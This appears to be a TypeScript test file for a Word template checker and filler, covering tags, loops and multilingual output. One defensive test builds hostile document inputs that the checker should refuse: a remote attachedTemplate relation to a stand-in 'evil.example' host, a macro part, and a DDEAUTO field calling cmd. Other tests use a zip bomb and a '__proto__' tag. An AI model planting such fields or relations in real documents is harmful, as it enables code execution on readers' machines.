// Tests of offices' own Word templates: their tags, what is refused, and what comes out.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Document, Packer, Paragraph } from 'docx'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { layOut } from '../rendering/paper-layout.ts'
import { sampleRequest } from '../testing/sample-text.ts'
import { checkTemplate, fillTemplate } from './word-template.ts'

const word = async (...lines: string[]): Promise<Uint8Array> =>
  new Uint8Array(
    await Packer.toBuffer(new Document({ sections: [{ children: lines.map(line => new Paragraph(line)) }] })),
  )

async function changed(file: Uint8Array, change: (parts: Record<string, Uint8Array>) => void): Promise<Uint8Array> {
  const parts = unzipSync(file)
  change(parts)
  return zipSync(parts)
}
const good = await word(
  '{title_fa} {number}',
  '{#clauses}',
  '{label_ru} {heading}',
  '{#paragraphs}',
  '{label} {text_en}',
  '{/paragraphs}',
  '{/clauses}',
)

test('known tags are taken, in the loop to which they belong', async () => {
  const report = await checkTemplate(good)
  assert.deepEqual(report.faults, [])
  assert.deepEqual(report.tags, [
    'title_fa',
    'number',
    'clauses',
    'label_ru',
    'heading',
    'paragraphs',
    'label',
    'text_en',
  ])
})

test('unknown tags are named with what was probably meant', async () => {
  const report = await checkTemplate(
    await word('{titel} {text}', '{#parties}', '{nam_fa} {constructor} {__proto__}', '{/parties}'),
  )
  assert.deepEqual(report.faults, [
    { fault: 'tag_unknown', tag: 'titel', suggestion: 'title' },
    { fault: 'tag_unknown', tag: 'text', suggestion: null },
    { fault: 'tag_unknown', tag: 'nam_fa', suggestion: 'name' },
    { fault: 'tag_unknown', tag: 'constructor', suggestion: null },
    { fault: 'tag_unknown', tag: '__proto__', suggestion: null },
  ])
})

test('loops that do not end, and end that never began, are told', async () => {
  for (const lines of [['{#clauses}', '{label}'], ['{/clauses}'], ['{#clauses}', '{/parties}']])
    assert.equal((await checkTemplate(await word(...lines))).faults.at(-1)?.fault, 'tags_unbalanced', lines.join())
})

test('what reaches out of the file or runs something is refused', async () => {
  const relation = (type: string, mode: string) => (parts: Record<string, Uint8Array>) => {
    const name = 'word/_rels/document.xml.rels'
    const one = `<Relationship Id="rX" Type="http://x/${type}" Target="http://evil.example/" TargetMode="${mode}"/>`
    parts[name] = strToU8(strFromU8(parts[name]!).replace('</Relationships>', `${one}</Relationships>`))
  }
  const faultsOf = async (change: (parts: Record<string, Uint8Array>) => void) =>
    (await checkTemplate(await changed(good, change))).faults
  assert.deepEqual(await faultsOf(relation('attachedTemplate', 'External')), [{ fault: 'outside' }])
  assert.deepEqual(await faultsOf(relation('hyperlink', 'External')), [])
  const macros = (parts: Record<string, Uint8Array>) => {
    parts['word/vbaProject.bin'] = strToU8('x')
  }
  assert.deepEqual(await faultsOf(macros), [{ fault: 'macros' }])
  const field = (parts: Record<string, Uint8Array>) => {
    const body = strFromU8(parts['word/document.xml']!)
    parts['word/document.xml'] = strToU8(
      body.replace('<w:body>', '<w:body><w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p>'),
    )
  }
  assert.deepEqual(await faultsOf(field), [{ fault: 'fields' }])
})

test('no Word file, and one that unpacks too far, is refused', async () => {
  assert.deepEqual((await checkTemplate(strToU8('no zip'))).faults, [{ fault: 'not_word' }])
  assert.deepEqual((await checkTemplate(zipSync({ 'a.txt': strToU8('x') }))).faults, [{ fault: 'not_word' }])
  const bomb = zipSync({ 'word/document.xml': new Uint8Array(61 * 1024 * 1024) })
  assert.deepEqual((await checkTemplate(bomb)).faults, [{ fault: 'too_large' }])
})

test('a filled template has the words of the document in each language; words that look like tags stay words', async () => {
  const request = sampleRequest(['fa', 'ru', 'en'], 2, { number: '{hash} & <b>' })
  const body = strFromU8(unzipSync(await fillTemplate(good, layOut(request)))['word/document.xml']!)
  assert.match(body, /تفاهم‌نامهٔ همکاری/)
  assert.match(body, /Статья 2/)
  assert.match(body, /\{hash\} &amp; &lt;b&gt;/)
  assert.match(body, /exchange students and staff/)
  assert.doesNotMatch(body, /\{#|\{\/|undefined/)
})
